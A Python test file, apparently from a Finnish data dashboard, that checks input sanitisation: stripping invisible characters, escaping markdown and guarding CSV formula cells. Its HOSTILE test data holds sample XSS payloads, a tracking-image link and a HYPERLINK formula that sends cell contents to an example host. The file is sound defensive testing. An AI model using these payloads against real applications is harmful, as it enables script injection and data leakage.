"""Text from outside is inert: invisible characters out where it enters, formulas guarded in CSV."""

from __future__ import annotations

import pandas as pd
import pytest

from dashboard import data
from dashboard.reports import tables
from dashboard.ui.markup import md_escape

HOSTILE = {
    "markdown link": "[klikkaa](javascript:alert(1))",
    "markdown image": "![pikseli](https://tracker.example.invalid/p.gif)",
    "raw html": "<img src=x onerror=alert(2)><script>alert(3)</script>",
    "bidi override": "Jyv\u202eäskylä\u202c",
    "zero width": "Luhan\u200bka\u2060\ufeff",
    "terminal escape": "\x1b[31mpunainen\x1b[0m\x07",
    "vega expression": "{\"signal\": \"alert(4)\"} datum.x || warn('x')",
    "formula": "=HYPERLINK(\"https://example.invalid?\"&A1,\"klikkaa\")",
    "long": "x" * 10_000,
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_clean_text_removes_what_no_output_should_pass_on(kind):
    text = data.clean_text(HOSTILE[kind])
    assert not any(c in text for c in "\u202e\u202c\u200b\u2060\ufeff\x1b\x07")
    assert len(text) <= data.TEXT_LIMIT
    if kind in ("bidi override", "zero width"):
        assert text in ("Jyväskylä", "Luhanka")


def test_inert_text_cuts_names_shorter_than_texts_and_leaves_numbers():
    frame = pd.DataFrame({"short_fi": ["n" * 1000], "notices_fi": ["t" * 5000],
                          "decimals": [1], "title_en": [None]})
    out = data.inert_text(frame)
    assert len(out["short_fi"][0]) == data.NAME_LIMIT and out["short_fi"][0].endswith("…")
    assert len(out["notices_fi"][0]) == data.TEXT_LIMIT
    assert out["decimals"][0] == 1 and out["title_en"][0] is None
    assert frame["short_fi"][0] == "n" * 1000  # the input is not changed


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_markdown_escape_leaves_no_link_image_or_tag(kind):
    shown = md_escape(data.clean_text(HOSTILE[kind]))
    unescaped = [c for i, c in enumerate(shown) if c in "<>[]()!`*_" and shown[i - 1:i] != "\\"]
    assert not unescaped, shown[:200]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_csv_guards_formula_cells_and_reads_back_the_same(start):
    frame = pd.DataFrame({"Kunta": [f"{start}HYPERLINK(\"x\")", "Jyväskylä"], "Arvo": [-1.5, 2.0]})
    raw = tables.csv_bytes(frame, "Lähde: testi")
    text = raw.decode("utf-8-sig")
    assert f"'{start}HYPERLINK" in text          # what a spreadsheet sees is text
    assert "-1,5" in text                        # numbers are not guarded
    source, back = tables.read_csv(raw)
    assert source == "Lähde: testi"
    assert back["Kunta"].tolist() == frame["Kunta"].tolist()
    assert back["Arvo"].tolist() == [-1.5, 2.0]
